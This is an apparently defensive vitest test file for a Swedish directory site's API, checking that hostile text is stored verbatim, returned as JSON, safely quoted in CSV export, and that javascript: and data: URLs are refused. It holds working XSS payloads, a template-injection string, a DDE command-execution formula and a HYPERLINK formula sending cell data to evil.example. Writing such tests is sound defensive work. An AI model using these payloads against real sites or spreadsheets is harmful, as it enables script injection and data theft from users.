/**
 * Hostile content at the API level: members, clusters, articles and areas
 * whose every free-text field holds HTML, script or CSV-breaking text are
 * created through tRPC over HTTP as an admin. The store keeps text exactly as
 * written — escaping is the renderer's job — so:
 * - the REST JSON and tRPC answers give the strings back unchanged, as JSON
 *   (application/json, nosniff: a browser never renders it as HTML);
 * - the CSV export quotes them so that parsing it back gives every cell
 *   unchanged, and row/column structure survives quotes, delimiters and
 *   line breaks;
 * - Markdown with a `javascript:` link is stored as written: the public
 *   site's renderer drops such links (its browser tests check that), and web
 *   addresses, which are shown as links as they are, refuse `javascript:`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, parseCsv, startTestServer, type TestServer } from '../test-server';
import { reply, sessionCookie, trpcData, trpcMutation, trpcQuery } from './http';
import type { Outputs, RestAreas, RestClusters, RestDirectory, RestMember } from '../wire-types';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea></title><script>alert(document.cookie)</script>',
  '<a href="javascript:alert(1)">klicka</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '"quoted", comma; semi\ttab\r\nnew line',
  '\u202egnp.exe',
];
/** Text in every field: all payloads at once, so each field meets each of them. */
const HOSTILE = PAYLOADS.join(' ');
/** Spreadsheet formulas: a cell starting with = + - @ comes back as text (apostrophe-prefixed in CSV). */
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")';
const MARKDOWN = `Läs [mer](javascript:alert(1)) och [här](JAVASCRIPT:alert(2)) <script>alert(3)</script>\n\n<img src=x onerror=alert(4)>`;

let server: TestServer;
let cookie = '';
let tech = 0;

async function create<T>(procedure: string, input: unknown): Promise<T> {
  const result = await reply(await trpcMutation(server, procedure, JSON.stringify(input), cookie));
  expect(result.status, `${procedure}: ${JSON.stringify(result.body).slice(0, 300)}`).toBe(200);
  return trpcData<T>(result.body);
}

beforeAll(async () => {
  server = await startTestServer();
  cookie = await sessionCookie(server, ADMIN);
  tech = server.handle.sqlite
    .prepare("SELECT id FROM areas WHERE slug = 'tech'")
    .pluck()
    .get() as number;
}, 60_000);

afterAll(async () => {
  await server.close();
});

describe('hostile text is stored as written and returned as data', () => {
  let member: { slug: string; id: number };
  let formulaMember: { slug: string };

  beforeAll(async () => {
    member = (
      await create<Outputs['member']['admin']['create']>('member.admin.create', {
        name: `${HOSTILE} AB`.slice(0, 200),
        kind: 'company',
        website: 'https://example.se/?q=<script>alert(1)</script>',
        description: { sv: HOSTILE, en: HOSTILE },
        areaIds: [tech],
        status: 'published',
      })
    ).member;
    formulaMember = (
      await create<Outputs['member']['admin']['create']>('member.admin.create', {
        name: FORMULA,
        kind: 'company',
        description: { sv: '+SUM(1+1)', en: '@cmd|" /C calc"!A0' },
        status: 'published',
      })
    ).member;
  });

  it('REST member JSON gives every text field back unchanged, as JSON', async () => {
    const response = await server.fetch(`/api/v1/members/${member.slug}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const body = (await response.json()) as RestMember;
    expect(body.name).toBe(`${HOSTILE} AB`.slice(0, 200).trim());
    expect(body.description).toEqual({ sv: HOSTILE, en: HOSTILE });
    // A web address is normalised (and could never be javascript:), not stored raw.
    expect(body.website).toMatch(/^https:\/\/example\.se\//);
    expect(body.website).not.toContain('<');
    // The slug is made of safe characters only.
    expect(member.slug).toMatch(/^[a-z0-9-]+$/);

    const listed = (await (
      await server.fetch(`/api/v1/members?q=${encodeURIComponent('alert')}`)
    ).json()) as RestDirectory;
    expect(listed.items.find((i) => i.slug === member.slug)?.name).toBe(body.name);

    const viaTrpc = await reply(await trpcQuery(server, 'member.bySlug', { slug: member.slug }));
    expect(trpcData<Outputs['member']['bySlug']>(viaTrpc.body).description.sv).toBe(HOSTILE);
  });

  it('a javascript: web address is refused, not stored', async () => {
    for (const website of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
    ]) {
      const result = await reply(
        await trpcMutation(
          server,
          'member.admin.create',
          JSON.stringify({ name: 'Länkbolaget AB', kind: 'company', website }),
          cookie,
        ),
      );
      expect(result.status, website).toBe(400);
    }
    expect(
      server.handle.sqlite
        .prepare("SELECT count(*) FROM members WHERE name = 'Länkbolaget AB'")
        .pluck()
        .get(),
    ).toBe(0);
  });

  it('the CSV export quotes hostile text so every cell parses back unchanged', async () => {
    const response = await server.fetch('/api/v1/members.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = (await response.text()).replace(/^\uFEFF/, '');
    const [header = [], ...rows] = parseCsv(text);
    for (const row of rows) expect(row).toHaveLength(header.length);
    const col = (name: string) => header.indexOf(name);
    const row = rows.find((r) => r[col('slug')] === member.slug);
    expect(row).toBeDefined();
    expect(row?.[col('name')]).toBe(`${HOSTILE} AB`.slice(0, 200).trim());
    expect(row?.[col('description_sv')]).toBe(HOSTILE);
    expect(row?.[col('description_en')]).toBe(HOSTILE);
    const formula = rows.find((r) => r[col('slug')] === formulaMember.slug);
    // Spreadsheets show an apostrophe-led cell as text instead of running it.
    expect(formula?.[col('name')]).toBe(`'${FORMULA}`);
    expect(formula?.[col('description_sv')]).toBe("'+SUM(1+1)");
  });
});

describe('clusters, articles and areas', () => {
  it('a cluster keeps hostile text in every text field', async () => {
    const created = await create<Outputs['cluster']['admin']['create']>('cluster.admin.create', {
      name: `${HOSTILE}`.slice(0, 200),
      shortName: '<b>x</b>"><script>',
      description: { sv: HOSTILE, en: HOSTILE },
      city: '<img src=x onerror=alert(1)>',
      sourceNoteText: { sv: HOSTILE, en: HOSTILE },
      sources: [
        {
          title: { sv: '<script>alert(1)</script>', en: '"><img src=x onerror=alert(1)>' },
          url: 'https://example.se/"><script>alert(1)</script>',
        },
      ],
      website: 'https://example.se/"><script>alert(1)</script>',
      status: 'published',
    });
    const response = await server.fetch('/api/v1/clusters');
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    const { items } = (await response.json()) as RestClusters;
    const cluster = items.find((c) => c.slug === created.slug);
    expect(cluster).toMatchObject({
      name: HOSTILE.slice(0, 200).trim(),
      shortName: '<b>x</b>"><script>',
      city: '<img src=x onerror=alert(1)>',
      sourceNoteText: { sv: HOSTILE, en: HOSTILE },
      description: { sv: HOSTILE, en: HOSTILE },
    });
    expect(cluster?.sources[0]?.title).toEqual({
      sv: '<script>alert(1)</script>',
      en: '"><img src=x onerror=alert(1)>',
    });
    expect(cluster?.sources[0]?.url).toMatch(/^https:\/\/example\.se\//);
    expect(cluster?.sources[0]?.url).not.toMatch(/[<>"]/);
    expect(cluster).not.toHaveProperty('sourceNote');
    expect(cluster?.website).toMatch(/^https:\/\/example\.se\//);
    expect(cluster?.website).not.toMatch(/[<>"]/);
  });

  it('an article keeps hostile text, and its Markdown body is stored as written', async () => {
    const created = await create<Outputs['article']['admin']['create']>('article.admin.create', {
      title: { sv: HOSTILE.slice(0, 200).trim(), en: '<script>alert(1)</script>' },
      summary: { sv: HOSTILE, en: HOSTILE },
      body: { sv: MARKDOWN, en: MARKDOWN },
      author: '"><img src=x onerror=alert(1)>',
      coverImage: {
        src: '/bild.jpg',
        alt: { sv: '"><script>alert(1)</script>', en: HOSTILE.slice(0, 300).trim() },
      },
      status: 'published',
      publishedAt: new Date().toISOString(),
    });
    const result = await reply(await trpcQuery(server, 'article.bySlug', { slug: created.slug }));
    expect(result.status).toBe(200);
    const article = trpcData<Outputs['article']['bySlug']>(result.body);
    expect(article.title).toEqual({
      sv: HOSTILE.slice(0, 200).trim(),
      en: '<script>alert(1)</script>',
    });
    expect(article.summary).toEqual({ sv: HOSTILE, en: HOSTILE });
    // Stored as written: removing javascript: links is the renderer's job (tested in the browser).
    expect(article.body).toEqual({ sv: MARKDOWN, en: MARKDOWN });
    expect(article.author).toBe('"><img src=x onerror=alert(1)>');
    expect(article.coverImage?.alt.sv).toBe('"><script>alert(1)</script>');
    expect(article.coverImage?.src).toBe('/bild.jpg');
  });

  it('an article cover address that would break out of an attribute is refused', async () => {
    const response = await trpcMutation(
      server,
      'article.admin.create',
      JSON.stringify({
        title: { sv: 'Omslag' },
        coverImage: { src: '/bild.jpg" onerror="alert(1)', alt: { sv: 'Bild' } },
      }),
      cookie,
    );
    expect(response.status).toBe(400);
  });

  it('an area keeps hostile text', async () => {
    const created = await create<Outputs['area']['admin']['create']>('area.admin.create', {
      slug: 'hostile-area',
      name: { sv: '<script>alert(1)</script>', en: '"><img src=x onerror=alert(1)>' },
      summary: { sv: HOSTILE, en: HOSTILE },
    });
    const { items } = (await (await server.fetch('/api/v1/areas')).json()) as RestAreas;
    expect(items.find((a) => a.slug === created.slug)).toMatchObject({
      name: { sv: '<script>alert(1)</script>', en: '"><img src=x onerror=alert(1)>' },
      summary: { sv: HOSTILE },
    });
  });
});
